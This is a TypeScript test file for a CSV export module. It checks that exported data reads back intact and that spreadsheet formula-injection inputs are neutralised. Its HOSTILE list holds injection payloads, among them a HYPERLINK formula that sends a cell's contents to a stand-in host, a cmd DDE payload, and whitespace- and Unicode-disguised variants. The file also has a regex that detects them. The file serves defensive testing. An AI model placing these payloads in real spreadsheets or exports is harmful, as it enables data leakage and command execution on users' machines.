import { describe, expect, it } from "vitest";
import { neutral, toCsv } from "./csv";

/** Reads RFC 4180, as a program does that knows nothing of ours. */
function parse(text: string, separator = ","): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at] ?? "";
    if (isQuoted) {
      if (char !== '"') cell += char;
      else if (text[at + 1] === '"') cell += text[++at] ?? "";
      else isQuoted = false;
    } else if (char === '"') isQuoted = true;
    else if (char === separator) {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[at + 1] === "\n") {
      at += 1;
      rows.push([...row, cell]);
      row = [];
      cell = "";
    } else cell += char;
  }
  return rows;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  "ok;=1+1",
  "ok\n=1+1",
  "ok\t@A1",
  '"\r\n=1+1',
  '";=1+1;"',
];

const isFormula = (cell: string) => /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/u.test(cell);

describe("exports", () => {
  it("are read back as they were", () => {
    const rows = [
      ["a", "b,c", 'say "hi"'],
      ["two\r\nlines", " spaced ", ""],
      ["José 🏥", "عربي", "हिन्दी"],
    ];
    const text = toCsv(["x", "y, z", '"'], rows);
    expect(text.startsWith("\ufeff")).toBe(true);
    expect(parse(text.slice(1))).toEqual([["x", "y, z", '"'], ...rows]);
  });

  it("write nothing for what is absent, and numbers as they are", () => {
    expect(toCsv(["a"], [[null, undefined, 0, -5, 1.5, true]])).toBe("\ufeffa\r\n,,0,-5,1.5,true\r\n");
  });

  it.each(HOSTILE)("are safe to open: %j", (text) => {
    const written = toCsv([text], [[text, "next"]]).slice(1);
    for (const cell of parse(written).flat()) expect(isFormula(cell), cell).toBe(false);
    expect(parse(written)[1]).toHaveLength(2);
    expect(neutral(text)).toContain("'");
  });

  it.each(HOSTILE)("are safe where semicolons separate: %j", (text) => {
    const line = toCsv(["h"], [["first", text]])
      .slice(1)
      .split("\r\n")
      .slice(1)
      .join("\r\n");
    for (const part of line.split(/[;\t\r\n]/)) expect(isFormula(part), part).toBe(false);
  });

  it("leave harmless texts alone", () => {
    for (const text of ["GM-042", "a=b", "1-2", "name@hospital.example", "a; b", "", "'quoted'"]) {
      expect(neutral(text)).toBe(text);
    }
  });
});
